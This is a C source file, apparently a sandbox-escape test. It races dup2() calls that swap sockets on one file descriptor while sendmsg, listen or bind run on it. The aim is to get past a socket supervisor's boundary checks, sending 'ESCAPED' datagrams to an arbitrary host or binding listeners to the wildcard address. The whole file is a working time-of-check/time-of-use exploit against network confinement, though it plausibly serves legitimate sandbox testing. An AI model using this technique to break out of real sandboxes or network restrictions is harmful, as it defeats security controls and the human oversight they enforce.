/*
 * fd-swap races against the socket supervisor: one thread makes a call on fd N while another keeps
 * dup2()-ing two different sockets onto N, so that the socket boundary checks may not be the one the
 * kernel would use. Bounded: a few thousand tries. Prints what it achieved:
 *   fdswap sendmsg IP PORT     sendmsg to IP:PORT (UDP) while N flips between a unix socketpair end and a
 *                              UDP socket; prints "sent N" (datagrams the kernel reported as sent)
 *   fdswap listen              listen(N) while N flips between two unbound TCP sockets; "WILDCARD port" when
 *                              one of them ends up listening on a non-loopback address
 *   fdswap bind tcp|udp PORT   bind(N, 0.0.0.0:PORT) while N flips between a netlink and an inet socket;
 *                              "WILDCARD port" when the inet socket ends up bound to the wildcard address
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define N 100
static volatile int stop;
static int A, B;

static void *flip(void *x) {
    (void)x;
    while (!stop) {
        dup2(A, N);
        dup2(B, N);
    }
    return NULL;
}

static void start(pthread_t *t) {
    stop = 0;
    dup2(A, N);
    pthread_create(t, NULL, flip, NULL);
}

static void finish(pthread_t t) {
    stop = 1;
    pthread_join(t, NULL);
}

static int wildcard(int fd) {
    struct sockaddr_in g;
    socklen_t l = sizeof g;
    memset(&g, 0, sizeof g);
    if (getsockname(fd, (struct sockaddr *)&g, &l) < 0 || g.sin_family != AF_INET) return 0;
    return g.sin_port != 0 && g.sin_addr.s_addr != htonl(INADDR_LOOPBACK) ? ntohs(g.sin_port) : 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    pthread_t t;
    if (argc == 4 && !strcmp(argv[1], "sendmsg")) {
        int sv[2];
        socketpair(AF_UNIX, SOCK_DGRAM, 0, sv);
        A = sv[0];
        B = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in d = {0};
        d.sin_family = AF_INET;
        d.sin_port = htons(atoi(argv[3]));
        inet_pton(AF_INET, argv[2], &d.sin_addr);
        struct iovec io = {"ESCAPED", 7};
        struct msghdr m = {.msg_name = &d, .msg_namelen = sizeof d, .msg_iov = &io, .msg_iovlen = 1};
        struct mmsghdr mm = {.msg_hdr = m};
        int sent = 0;
        start(&t);
        for (int i = 0; i < 4000; i++) {
            if (sendmsg(N, &m, MSG_DONTWAIT) == 7) sent++;
            if (sendmmsg(N, &mm, 1, MSG_DONTWAIT) == 1) sent++;
        }
        finish(t);
        char junk[16];
        while (recv(sv[1], junk, sizeof junk, MSG_DONTWAIT) > 0) sent--; /* those went to the socketpair */
        printf("sent %d\n", sent);
        return 0;
    }
    if (argc == 2 && !strcmp(argv[1], "listen")) {
        for (int i = 0; i < 300; i++) {
            A = socket(AF_INET, SOCK_STREAM, 0);
            B = socket(AF_INET, SOCK_STREAM, 0);
            start(&t);
            listen(N, 5);
            finish(t);
            int p = wildcard(A) ? wildcard(A) : wildcard(B);
            if (p) {
                printf("WILDCARD %d\n", p);
                return 0;
            }
            close(A);
            close(B);
            close(N);
        }
        puts("loopback only");
        return 0;
    }
    if (argc == 4 && !strcmp(argv[1], "bind")) {
        int type = !strcmp(argv[2], "udp") ? SOCK_DGRAM : SOCK_STREAM;
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(atoi(argv[3]));
        for (int i = 0; i < 300; i++) {
            A = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
            B = socket(AF_INET, type, 0);
            int one = 1;
            setsockopt(B, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
            start(&t);
            for (int k = 0; k < 20; k++) bind(N, (struct sockaddr *)&a, sizeof a);
            finish(t);
            int p = wildcard(B);
            if (p) {
                printf("WILDCARD %d\n", p);
                return 0;
            }
            close(A);
            close(B);
            close(N);
        }
        puts("loopback only");
        return 0;
    }
    fprintf(stderr, "usage: see the comment at the top of fdswap.c\n");
    return 2;
}
